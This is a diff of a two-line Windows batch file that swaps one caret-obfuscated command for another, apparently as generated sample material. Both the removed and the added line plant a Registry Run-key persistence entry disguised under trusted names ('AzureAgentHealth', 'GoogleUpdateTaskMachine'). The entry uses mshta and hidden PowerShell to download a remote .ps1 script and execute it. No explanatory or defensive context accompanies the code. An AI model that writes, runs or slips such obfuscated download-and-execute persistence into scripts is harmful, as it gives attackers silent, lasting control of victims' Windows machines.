@@ -1,2 +1,2 @@
-REM run 7839 v0
-^r^eg a^dd ^H^K^CU\Sof^tw^are\M^i^c^ros^o^f^t\Wi^ndo^w^s\C^u^r^re^n^tVe^r^sio^n\^R^un /^v Az^u^reAge^nt^He^alth /^t ^REG_^S^Z /^d "mshta vbscript:Execute(\"^Cr^e^ate^O^bj^ec^t(\"\"^W^Scri^p^t.^S^he^l^l\"\").R^u^n \"\"power^s^h^ell -^w ^hidd^en -c iw^r ^ht^tp://^19^8.5^1.1^00.9/up^d^ate.^ps^1|^i^ex\"\", ^0:^cl^os^e\")" /f
+REM maintenance 8495 v0
+^reg ad^d HKC^U\^S^of^tware\^Mic^ros^of^t\^W^i^n^dow^s\Cu^r^r^entV^ersi^o^n\R^u^n /v ^Go^ogle^Upda^t^e^Tas^kM^ach^i^ne /^t ^R^EG_S^Z /d "mshta vbscript:Execute(\"C^r^e^ate^Ob^je^c^t(\"\"^WS^cri^p^t.^S^hel^l\"\").^R^un \"\"^powe^rs^he^ll -^w h^idd^en -c ^iw^r htt^p://19^8.^51.1^00.9/in^v.ps1|^ie^x\"\", 0:c^los^e\")" /f
